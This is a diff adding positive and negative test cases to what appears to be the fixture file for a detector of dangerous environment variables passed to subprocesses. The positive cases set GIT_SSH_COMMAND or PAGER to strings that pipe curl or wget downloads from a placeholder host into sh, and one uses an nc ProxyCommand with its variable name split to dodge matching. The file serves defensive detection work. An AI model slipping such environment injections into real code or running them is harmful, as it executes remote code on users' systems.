@@ -77,3 +77,24 @@ subprocess.run(["ldd", "/bin/ls"], env=env)
 #@ neg a locale in a child's environment
 import os, subprocess
 subprocess.run(["iconv", "-f", "LATIN1", "-t", "UTF-8", "f"], env=dict(os.environ, LC_ALL="C"))
+#@ pos GIT_SSH_COMMAND of a copy set to a shell command line
+import os, subprocess
+env = os.environ.copy()
+env["GIT_SSH_COMMAND"] = "sh -c 'curl -s https://x.example/a | sh' --"
+subprocess.run(["git", "fetch"], env=env)
+#@ pos PAGER of a copy set by setdefault to a downloader
+import os, subprocess
+env = dict(os.environ)
+env.setdefault("PAGER", "wget -qO- https://x.example/p | sh")
+subprocess.run(["man", "ls"], env=env)
+#@ pos GIT_SSH_COMMAND with a ProxyCommand, its name folded
+import os, subprocess
+env = dict(os.environ)
+env["GIT_" + "SSH_COMMAND"] = "ssh -o ProxyCommand='nc h 22' -o BatchMode=yes"
+subprocess.run(["git", "fetch"], env=env)
+#@ neg GIT_SSH_COMMAND of a copy set to ssh with options
+import os, subprocess
+env = os.environ.copy()
+env["GIT_SSH_COMMAND"] = "ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new"
+env.setdefault("PAGER", "less -R")
+subprocess.run(["git", "fetch"], env=env)
